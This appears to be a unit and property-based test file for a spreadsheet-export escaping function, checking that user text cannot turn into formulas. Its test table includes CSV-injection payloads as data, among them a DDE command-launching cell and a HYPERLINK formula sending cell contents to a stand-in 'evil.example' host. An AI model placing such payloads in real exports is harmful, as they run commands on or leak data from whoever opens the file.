import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { spreadsheetCell } from '../../../bot/turns/spreadsheet-cell.ts';

/** What the first cell of the line holds as a spreadsheet reads it, and what it makes of the rest. */
function readBack(line: string, separator: string): readonly string[] {
  const cells: string[] = [];
  let rest = line;
  while (rest !== '') {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
    const end = quoted === null ? rest.indexOf(separator) : quoted[0].length;
    const cut = end < 0 ? rest.length : end;
    cells.push(quoted === null ? rest.slice(0, cut) : (quoted[1] ?? '').replaceAll('""', '"'));
    rest = rest.slice(cut).replace(separator, '');
  }
  return cells;
}

const FORMULA = /^[\s"'“”‘’]*[=+\-@＝＋－＠﹦﹢﹣﹫−⁼⁺⁻]/u;
const isFormula = (cell: string): boolean => FORMULA.test(cell) && !/^[\s"“”‘’]*'/.test(cell);

describe('a cell of the export', () => {
  test.each([
    ['=1+1', `"'=1+1"`],
    ['+49 30', `"'+49 30"`],
    ['-x', `"'-x"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1+1', `"'=1+1"`],
    ['\r=1+1', `"'=1+1"`],
    ['   =1+1', `"'=1+1"`],
    ['\u200b=1+1', `"'=1+1"`],
    ['\u00a0=1+1', `"'=1+1"`],
    ['\u202e=1+1', `"'=1+1"`],
    ['＝1+1', `"'＝1+1"`],
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠SUM', `"'＠SUM"`],
    ['−1', `"'−1"`],
    ['"=1+1"', `"""'=1+1"""`],
    ['x,=1+1', `"x,'=1+1"`],
    ['x|=1+1', `"x|'=1+1"`],
    ['x\n=1+1', '"x =1+1"'],
    ["=cmd|'/C calc'!A0", `"'=cmd|'/C calc'!A0"`],
    ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https:// evil. example?""&A1)"`],
    ['a;b\nc', '"a b c"'],
    ['María "la jefa" García', '"María ""la jefa"" García"'],
    ['García-Pérez, Ana', '"García-Pérez, Ana"'],
  ])('%j stands in a table as %s', (given, cell) => {
    expect(spreadsheetCell(given)).toBe(cell);
  });

  test('is one cell and no formula, whatever is in it and whichever separator the program takes', () => {
    const nasty = fc
      .array(fc.constantFrom(...'=+-@＝－\t\r\n ;,|"\'aé0(\u200b\u202e\u2028'), { maxLength: 12 })
      .map((signs) => signs.join(''));
    fc.assert(
      fc.property(nasty, nasty, (one, other) => {
        const line = [one, other].map(spreadsheetCell).join(';');
        expect(line).not.toMatch(/[\r\n\t\u2028\u202e\u200b]/);
        const cells = readBack(line, ';');
        expect(cells).toHaveLength(2);
        for (const separator of [';', ',', '|'])
          for (const cell of readBack(line, separator)) expect(isFormula(cell)).toBe(false);
      }),
      { numRuns: 2_000, seed: 4 },
    );
  });
});
